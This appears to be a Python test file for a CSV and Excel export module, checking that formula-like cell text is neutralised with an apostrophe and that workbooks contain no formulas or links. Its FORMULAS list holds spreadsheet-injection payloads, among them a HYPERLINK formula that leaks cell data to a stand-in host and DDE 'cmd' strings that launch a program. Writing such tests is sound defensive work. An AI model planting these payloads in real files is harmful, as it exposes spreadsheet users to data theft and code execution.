"""A table as CSV and as a workbook: what is a text stays a text, what is a number a number, and nothing starts."""

import csv
import io
import tracemalloc
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from accelerator.exports import files
from accelerator.exports.tables import Column, ColumnTable, Look

PARIS = ZoneInfo("Europe/Paris")
FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]
HARMLESS = [
    "We do:\n- reading\n- writing; -12 %; +2",
    "-12.5",
    "+33 6 12 34 56 78",
    "1,000",
    "Übergabe, GmbH",
    "a=b",
    "2-3",
    'say "so"',
    "two\nlines",
    "0",
]


def table_of(*looks: Look) -> ColumnTable:
    return ColumnTable(
        tuple(
            Column(f"c{at}", f"Column {at}", lambda row, at=at: row[at], look)
            for at, look in enumerate(looks or (Look.TEXT,))
        ),
        PARIS,
    )


def as_read(rows, table=None) -> list[list[str]]:
    whole = b"".join(files.as_csv(table or table_of(), rows)).decode()
    assert whole.startswith("\ufeff")
    return list(csv.reader(io.StringIO(whole[1:], newline="")))[1:]


def workbook(rows, table=None) -> dict[str, str]:
    """The parts of the workbook, by their names in it."""
    with files.as_xlsx(table or table_of(), rows, "First edition") as file, zipfile.ZipFile(file) as parts:
        return {name: parts.read(name).decode() for name in parts.namelist()}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_could_be_a_formula_begins_with_an_apostrophe_in_csv(text):
    ((read,),) = as_read([[text]])
    assert read.startswith("'")
    assert read.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text, held",
    [
        ("a;=1+1", "a;'=1+1"),
        ("a; =1+1;b", "a; '=1+1;b"),
        ("a\n=1+1", "a\n'=1+1"),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
        ("a;-2+3+cmd|' /C calc'!A0", "a;'-2+3+cmd|' /C calc'!A0"),
        ("a;＝1+1", "a;'＝1+1"),
    ],
)
def test_nothing_starts_where_another_country_parts_the_cells(text, held):
    assert as_read([[text]]) == [[held]]


@pytest.mark.parametrize("text", HARMLESS)
def test_every_other_text_stays_as_it_is(text):
    assert as_read([[text]]) == [[text]]


def test_numbers_days_and_moments_stay_what_they_are_in_csv():
    at = datetime(2023, 12, 1, 22, 59, 59, tzinfo=UTC)
    row = [-3, Decimal("-12.50"), date(2023, 12, 1), at, ["one", "two"], None]
    table = table_of(*[Look.TEXT] * 6)
    assert as_read([row], table) == [["-3", "-12.50", "2023-12-01", "2023-12-01 23:59:59", "one; two", ""]]


def test_a_heading_that_a_manager_wrote_is_guarded_too():
    table = ColumnTable((Column("c", "=1+1", lambda row: row),), PARIS)
    assert b"".join(files.as_csv(table, [])).decode() == "\ufeff'=1+1\r\n"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_holds_no_formula_whatever_was_typed(text):
    parts = workbook([[text]])
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert 't="inlineStr"' in sheet
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]


def test_a_workbook_makes_no_links_and_no_numbers_of_texts():
    parts = workbook([["https://papyrus.example"], ["00123"]])
    assert "hyperlink" not in parts["xl/worksheets/sheet1.xml"]
    assert not any("rels" in name and "sheet1" in name for name in parts)
    assert ">00123<" in parts["xl/worksheets/sheet1.xml"]


def test_a_workbook_keeps_numbers_and_moments_as_such():
    at = datetime(2023, 12, 1, 22, 59, tzinfo=UTC)
    sheet = workbook([[-3, at]], table_of(Look.NUMBER, Look.WHEN))["xl/worksheets/sheet1.xml"]
    assert "<v>-3</v>" in sheet
    assert "<v>45261.999" in sheet  # 23:59 in Paris, as spreadsheets count days


@pytest.mark.parametrize(
    "text", ["x" * 40_000, "a\x00b\x0bc\x1f", "\ud800".encode("utf-8", "replace").decode()]
)
def test_what_no_cell_can_hold_breaks_no_file(text):
    sheet = workbook([[text]])["xl/worksheets/sheet1.xml"]
    assert 't="inlineStr"' in sheet
    assert "\x00" not in as_read([[text]])[0][0]


def test_a_cut_text_says_so():
    assert "x…<" in workbook([["x" * 40_000]])["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize("name", ["A name / that: is [longer] than thirty-one signs?", "", "'''"])
def test_any_name_makes_a_sheet(name):
    with files.as_xlsx(table_of(), [["x"]], name) as file:
        assert zipfile.ZipFile(file).testzip() is None


def test_ten_thousand_lines_of_csv_need_no_more_memory_than_a_few():
    def most(count: int) -> int:
        rows = ([f"Startup {number} " * 40] for number in range(count))
        tracemalloc.start()
        for _line in files.as_csv(table_of(), rows):
            pass
        _now, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return peak

    most(10)
    assert most(10_000) < most(100) + 50_000
